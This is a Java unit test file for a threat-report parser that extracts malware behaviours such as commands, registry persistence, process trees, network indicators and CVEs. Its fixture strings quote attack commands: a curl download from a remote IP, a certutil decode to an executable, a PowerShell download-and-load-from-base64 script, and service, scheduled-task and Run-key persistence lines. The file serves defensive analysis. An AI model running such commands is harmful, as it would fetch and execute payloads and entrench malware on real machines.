package dev.harrier.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class BehaviourKindsTest {
    private static List<String> commands(String text) {
        return Extraction.of(text).behaviours(Behaviour.CommandLine.class).stream()
                .map(Behaviour.CommandLine::commandLine)
                .toList();
    }

    @Test
    void continuedLinesAreOneCommand() {
        String text =
                "The malware ran:\n\n```\nroot@web01:~# curl -s \\\n   -o /tmp/.x \\\n   http://45.77.1.9/x\nPS C:\\Users\\bob> certutil.exe -decode a.txt a.exe\n```\n";
        assertThat(commands(text))
                .containsExactly("curl -s -o /tmp/.x http://45.77.1.9/x", "certutil.exe -decode a.txt a.exe");
    }

    @Test
    void commandsInProseEndWhereProseGoesOn() {
        assertThat(commands("The actor executed cmd.exe /c whoami /all and left the malware there."))
                .containsExactly("cmd.exe /c whoami /all");
        assertThat(commands("The malware uses rundll32.exe to load its payload."))
                .isEmpty();
    }

    @Test
    void commandsSayWhatTheyMake() {
        Extraction read = Extraction.of(
                "The actor ran `sc.exe create WinHelpSvc binPath= C:\\ProgramData\\w.exe`, "
                        + "`schtasks /create /sc minute /tn \"Update Check\" /tr C:\\ProgramData\\w.exe` and "
                        + "`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d C:\\ProgramData\\w.exe /f`.");
        assertThat(read.behaviours(Behaviour.Service.class))
                .extracting(Behaviour.Service::name)
                .contains("WinHelpSvc");
        assertThat(read.behaviours(Behaviour.ScheduledTask.class))
                .extracting(Behaviour.ScheduledTask::name)
                .contains("Update Check");
        assertThat(read.behaviours(Behaviour.RegistryValue.class)).anySatisfy(value -> {
            assertThat(value.path()).isEqualTo("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd");
            assertThat(value.data()).contains("C:\\ProgramData\\w.exe");
            assertThat(value.persistence()).isTrue();
        });
    }

    @Test
    void processTreesPairEachProgramWithTheOneAbove() {
        String text =
                "The malware's tree:\n\n```\nwinword.exe\n  \u2514\u2500 cmd.exe /c x\n      \u2514\u2500 powershell.exe -enc QQ\n  \u2514\u2500 splwow64.exe 8192\n```\n";
        assertThat(Extraction.of(text).behaviours(Behaviour.ParentChild.class))
                .extracting(p -> p.parent() + ">" + p.child())
                .contains("winword.exe>cmd.exe", "cmd.exe>powershell.exe", "winword.exe>splwow64.exe");
    }

    @ParameterizedTest
    @CsvSource({
        "Then Microsoft Word launches PowerShell at once., winword.exe, powershell.exe",
        "PowerShell was spawned by Excel there., excel.exe, powershell.exe",
        "the IIS worker process spawned cmd twice, w3wp.exe, cmd.exe"
    })
    void programsByTheNamesThatPeopleUse(String text, String parent, String child) {
        assertThat(Extraction.of(text).behaviours(Behaviour.ParentChild.class))
                .singleElement()
                .matches(p -> p.parent().equals(parent) && p.child().equals(child));
    }

    @ParameterizedTest
    @CsvSource({
        "HKLM:\\SOFTWARE\\Acme\\X, HKLM:\\SOFTWARE\\Acme\\X",
        "HKEY\\_CURRENT\\_USER\\Software\\Acme, HKEY_CURRENT_USER\\Software\\Acme",
        "SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run, SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "SYSTEM\\ControlSet001\\Services\\Foo, SYSTEM\\ControlSet001\\Services\\Foo"
    })
    void registryKeysAsPeopleWriteThem(String written, String path) {
        Extraction read = Extraction.of("The malware sets " + written + " now.");
        assertThat(read.behaviours(Behaviour.RegistryValue.class))
                .extracting(Behaviour.RegistryValue::path)
                .containsExactly(path);
        assertThat(read.behaviours(Behaviour.FilePath.class)).isEmpty();
    }

    @Test
    void valuesBelowTheirKeyBelongToIt() {
        Extraction read = Extraction.of(
                "The malware sets\n\n```\n[HKEY_CURRENT_USER\\Software\\Acme]\n\"Loader\" = \"C:\\ProgramData\\q.dll\"\n```\n");
        assertThat(read.behaviours(Behaviour.RegistryValue.class))
                .singleElement()
                .satisfies(value -> {
                    assertThat(value.path()).isEqualTo("HKEY_CURRENT_USER\\Software\\Acme\\Loader");
                    assertThat(value.data()).isEqualTo(Optional.of("C:\\ProgramData\\q.dll"));
                    assertThat(value.persistence()).isFalse();
                });
    }

    @ParameterizedTest
    @CsvSource({
        "%TEMP%\\~log, %TEMP%\\~log",
        "%APPDATA%/Microsoft/x.dat, %APPDATA%/Microsoft/x.dat",
        "\"C:\\Windows\\system32\\drivers\\NGEN Framework\", C:\\Windows\\system32\\drivers\\NGEN Framework",
        "/Applications/Evil Notes.app/Contents/MacOS/run, /Applications/Evil Notes.app/Contents/MacOS/run",
        "$env:APPDATA\\Acme\\q.ps1, $env:APPDATA\\Acme\\q.ps1"
    })
    void pathsAsPeopleWriteThem(String written, String path) {
        assertThat(Extraction.of("The malware drops " + written + " there.").behaviours(Behaviour.FilePath.class))
                .extracting(Behaviour.FilePath::path)
                .containsExactly(path);
    }

    @Test
    void aDevelopersPathIsNoVictims() {
        assertThat(Extraction.of("The malware's path is d:\\acme\\Release\\x.pdb there.")
                        .behaviours(Behaviour.FilePath.class))
                .isEmpty();
    }

    @Test
    void traffic() {
        Extraction read = Extraction.of(
                "The backdoor talks over TCP port 4444 and UDP/5353, then sends `POST /gate.php?id=1`.\n\n"
                        + "```\nUser-Agent: ZLoad/7 (x)\n```\n");
        assertThat(read.behaviours(Behaviour.Network.class))
                .extracting(Behaviour.Network::value)
                .containsExactly("tcp/4444", "udp/5353", "/gate.php?id=1");
        assertThat(read.behaviours(Behaviour.UserAgent.class))
                .extracting(Behaviour.UserAgent::value)
                .containsExactly("ZLoad/7 (x)");
    }

    @ParameterizedTest
    @CsvSource({
        "The actor used AssumeRole on AWS., AWS, AssumeRole",
        "The attacker added a malicious inbox rule., EXCHANGE, New-InboxRule",
        "Victims fell to device code phishing., ENTRA, device code sign-in",
        "The actor ran Add service principal credentials., ENTRA, Add service principal credentials",
        "The malware starts a privileged container., KUBERNETES, privileged pod",
        "The malware mounts the docker.sock there., CONTAINER, docker socket mounted",
        "Attackers hid it in a postinstall script., PACKAGE_REGISTRY, install script run"
    })
    void operations(String text, Behaviour.Platform platform, String name) {
        assertThat(Extraction.of(text).behaviours(Behaviour.Operation.class))
                .singleElement()
                .matches(o -> o.platform() == platform && o.name().equals(name));
    }

    @Test
    void ambiguousOperationsNeedTheirPlatform() {
        assertThat(Extraction.of("The malware calls StartSession here.").behaviours(Behaviour.Operation.class))
                .isEmpty();
    }

    @Test
    void scriptsAreTheirCalls() {
        String text = "The malware ran:\n\n```\n$d = (New-Object Net.WebClient).DownloadString('http://45.77.1.9/a')\n"
                + "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($d))\n```\n";
        assertThat(Extraction.of(text).behaviours(Behaviour.Script.class))
                .singleElement()
                .satisfies(s ->
                        assertThat(s.fragments()).contains("New-Object Net.WebClient", "[Convert]::FromBase64String"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "It exploits a flaw in Microsoft Office (CVE-2017-8570).|Microsoft Office||",
                "CVE-2024-3400 in Palo Alto PAN-OS before 10.2.9 was fixed in 10.2.9.|Palo Alto PAN-OS|before 10.2.9|10.2.9",
                "CVE-2017-11882 is old.|||"
            })
    void vulnerabilities(String text, String product, String affected, String fixed) {
        assertThat(Extraction.of(text).evidence().vulnerabilities())
                .singleElement()
                .satisfies(v -> {
                    assertThat(v.product()).isEqualTo(Optional.ofNullable(product));
                    assertThat(v.affected()).isEqualTo(Optional.ofNullable(affected));
                    assertThat(v.fixed()).isEqualTo(Optional.ofNullable(fixed));
                });
    }

    @Test
    void namesWithoutQuotationMarksAndBeforeTheirWord() {
        Extraction read = Extraction.of(
                "The malware makes a service named WinHelpSvc64, the \"Update Check 9\" scheduled task "
                        + "and a task named *AcmeUpdates*, with a hardcoded mutex value {99ed2fc7-0fdc-42ef-8b82-78d1c7c554e3}.");
        assertThat(read.behaviours(Behaviour.Service.class))
                .extracting(Behaviour.Service::name)
                .containsExactly("WinHelpSvc64");
        assertThat(read.behaviours(Behaviour.ScheduledTask.class))
                .extracting(Behaviour.ScheduledTask::name)
                .containsExactly("Update Check 9", "AcmeUpdates");
        assertThat(read.values(IndicatorType.MUTEX)).containsExactly("{99ed2fc7-0fdc-42ef-8b82-78d1c7c554e3}");
    }
}
